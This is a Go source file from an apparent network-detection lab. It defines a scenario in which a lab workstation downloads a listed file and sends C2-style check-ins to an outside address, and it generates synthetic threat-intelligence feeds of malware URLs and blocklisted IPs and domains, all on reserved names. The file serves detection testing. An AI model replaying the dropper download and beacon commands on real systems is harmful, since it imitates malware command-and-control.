package lab

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
	"time"
)

// Threat intelligence: a LAN host contacts infrastructure that feeds list.
// The scenario publishes its feeds beside its capture (feedFile), the
// labels name them (Labels.IntelFeeds), and `vigil eval` loads them for
// this scenario's analysis only.

// The indicators the intel-ioc scenario touches: a download URL on a
// listed domain, and the listed address it resolves to (the outside
// server), to which the dropped program then checks in.
const (
	iocDomain = "dl.fileshare-cdn.example"
	iocPath   = "/invoices/INV-20931.zip"
)

// iocFeedCounts are the unrelated indicators of each feed: the match must
// be a lookup among many.
const (
	iocUnrelatedURLs    = 300
	iocUnrelatedIPs     = 250
	iocUnrelatedDomains = 250
)

// feedFile is a threat-intelligence feed file a scenario publishes beside
// its capture, in DIR/SCENARIO.intel/.
type feedFile struct {
	name    string
	content string
}

// feedDir is the directory, beside the capture, that holds a scenario's
// feeds.
func feedDir(scenario string) string { return scenario + ".intel" }

func init() {
	register(&Scenario{
		Name: "intel-ioc", Difficulty: Easy,
		Description: fmt.Sprintf("Threat-intelligence hit: ws2 resolves %s and downloads a file from http://%s%s (both listed in a feed), then checks in twice with the listed address %s.",
			iocDomain, iocDomain, iocPath, hostExt.IPv4()),
		Tools: []string{"curl"}, Classes: []string{"intel.match"}, MITRE: []string{"T1105", "T1071.001"},
		AttackerAddrs: []string{hostExt.IPv4().String(), hostExt.IPv6().String()}, Victims: v4(hostWS2), Duration: 15 * time.Second,
		Notes: fmt.Sprintf("ws2 is the compromised host; the listed infrastructure is outside (%s, %s). The feeds are in %s/ beside the capture (the labels' intel_feeds): a URLhaus-style CSV, a plain IP blocklist and a hosts-file domain list, %d unrelated indicators and the three the scenario touches",
			hostExt.IPv4(), iocDomain, feedDir("intel-ioc"), iocUnrelatedURLs+iocUnrelatedIPs+iocUnrelatedDomains),
		feeds:  iocFeeds,
		attack: intelIOCAttack,
	})
}

// intelIOCAttack is a dropper's first minutes: a download from the listed
// URL (its name resolved by the LAN resolver), then check-ins to the
// listed address halfway through and at the end.
func intelIOCAttack(a *attackRun) error {
	const agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3803"
	checkIn := func(n int) func() error {
		return func() error {
			return a.run(hostWS2, "curl", "-s", "--max-time", "5", "-A", agent, "-o", "/dev/null",
				"--data", fmt.Sprintf("id=ws2-4e1c&n=%d", n), fmt.Sprintf("http://%s/api/v1/register", hostExt.IPv4()))
		}
	}
	return a.sequence(
		a.phased("download from the listed URL", func() error {
			return a.run(hostWS2, "curl", "-s", "--max-time", "10", "-A", agent, "-o", "/dev/null", "http://"+iocDomain+iocPath)
		}),
		func() error { return a.sleep(a.duration / 2) },
		a.phased("check-in to the listed address", checkIn(1)),
		func() error { return a.sleep(a.duration / 2) },
		a.phased("check-in to the listed address", checkIn(2)),
	)
}

// iocFeeds are the intel-ioc scenario's feeds, the same at every run: an
// abuse.ch URLhaus-style CSV (its header commented out, as abuse.ch
// writes it), a Feodo Tracker-style plain IP blocklist and a hosts-file
// domain blocklist. The unrelated indicators are in documentation ranges
// and under reserved names (RFC 5737, RFC 2606) that the lab's traffic
// never uses: 198.51.100.0/24 and 192.0.2.0/24, .example, .test and
// .invalid names other than the lab's.
func iocFeeds() []feedFile {
	rng := rand.New(rand.NewPCG(2018, 11211))
	// A third of the URLs are on bare addresses, as in URLhaus.
	urlIPs := (iocUnrelatedURLs + 2) / 3
	ips := unrelatedIPs(rng, iocUnrelatedIPs+urlIPs)
	domains := unrelatedDomains(rng, iocUnrelatedDomains+iocUnrelatedURLs-urlIPs)
	day := time.Date(2026, 11, 2, 8, 0, 0, 0, time.UTC)

	var urls strings.Builder
	urls.WriteString(`################################################################
# abuse.ch URLhaus Database Dump (CSV - recent URLs)           #
# vigil lab: a synthetic feed in URLhaus's layout; every host  #
# in it is a documentation address or a reserved name.         #
################################################################
#
# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter
`)
	paths := []string{"/bins/mips", "/bins/arm7", "/i.sh", "/wp-content/uploads/%d/invoice.doc", "/docs/%d/scan.zip",
		"/update/%d.exe", "/mozi.m", "/x/%d/payload.ps1"}
	tags := []string{"elf,mirai", "elf,mozi", "sh", "doc,emotet", "zip,qakbot", "exe,agenttesla", "elf,mozi", "ps1,asyncrat"}
	for i := range iocUnrelatedURLs {
		var host string
		if i%3 == 0 {
			host = ips[iocUnrelatedIPs+i/3]
		} else {
			host = domains[iocUnrelatedDomains+i-i/3-1]
		}
		k := rng.IntN(len(paths))
		path := paths[k]
		if strings.Contains(path, "%d") {
			path = fmt.Sprintf(path, 1000+rng.IntN(9000))
		}
		writeURLhausRow(&urls, 3300000+i, day.Add(time.Duration(i)*7*time.Minute), "http://"+host+path, tags[k])
	}
	writeURLhausRow(&urls, 3300000+iocUnrelatedURLs, day.Add(iocUnrelatedURLs*7*time.Minute), "http://"+iocDomain+iocPath, "zip,qakbot")

	var ipList strings.Builder
	ipList.WriteString(`#################################################################
# abuse.ch Feodo Tracker Botnet C2 IP Blocklist (plain)         #
# vigil lab: a synthetic list in Feodo Tracker's layout; every  #
# address in it is reserved for documentation.                  #
#################################################################
#
# DstIP
`)
	for _, ip := range ips[:iocUnrelatedIPs/2] {
		fmt.Fprintln(&ipList, ip)
	}
	fmt.Fprintln(&ipList, hostExt.IPv4())
	for _, ip := range ips[iocUnrelatedIPs/2 : iocUnrelatedIPs] {
		fmt.Fprintln(&ipList, ip)
	}
	ipList.WriteString("# end\n")

	var hosts strings.Builder
	hosts.WriteString("# Malware domain blocklist (hosts format)\n# vigil lab: synthetic; every name in it is reserved (RFC 2606).\n127.0.0.1 localhost\n::1 localhost\n\n")
	for i, d := range domains[:iocUnrelatedDomains] {
		if i == iocUnrelatedDomains/3 {
			fmt.Fprintf(&hosts, "0.0.0.0 %s\n", iocDomain)
		}
		fmt.Fprintf(&hosts, "0.0.0.0 %s\n", d)
	}
	return []feedFile{
		{"urlhaus.csv", urls.String()},
		{"feodo-ipblocklist.txt", ipList.String()},
		{"malware-domains.hosts", hosts.String()},
	}
}

func writeURLhausRow(b *strings.Builder, id int, added time.Time, url, tags string) {
	ts := added.Format(time.DateTime)
	fmt.Fprintf(b, "%q,%q,%q,\"online\",%q,\"malware_download\",%q,\"https://urlhaus.abuse.ch/url/%d/\",\"vigil-lab\"\n",
		fmt.Sprint(id), ts, url, ts, tags, id)
}

// unrelatedIPs draws n (at most 508) distinct documentation addresses
// (198.51.100.0/24, 192.0.2.0/24).
func unrelatedIPs(rng *rand.Rand, n int) []string {
	var all []string
	for _, net := range []netip.Prefix{netip.MustParsePrefix("198.51.100.0/24"), netip.MustParsePrefix("192.0.2.0/24")} {
		for o := 1; o < 255; o++ {
			all = append(all, hostAddr(net, byte(o)).String())
		}
	}
	rng.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })
	return all[:n]
}

// unrelatedDomains draws n distinct names under .example, .test and
// .invalid, none of them the lab's or a parent of one.
func unrelatedDomains(rng *rand.Rand, n int) []string {
	first := []string{"secure", "login", "cdn", "update", "mail", "files", "docs", "cloud", "api", "portal", "track", "static"}
	second := []string{"verify", "office", "bank", "share", "sync", "drive", "pay", "invoice", "delivery", "account", "support", "media"}
	tlds := []string{"example", "test", "invalid"}
	seen := map[string]bool{}
	var out []string
	for len(out) < n {
		d := fmt.Sprintf("%s-%s%d.%s", first[rng.IntN(len(first))], second[rng.IntN(len(second))], rng.IntN(1000), tlds[rng.IntN(len(tlds))])
		if !seen[d] {
			seen[d] = true
			out = append(out, d)
		}
	}
	return out
}
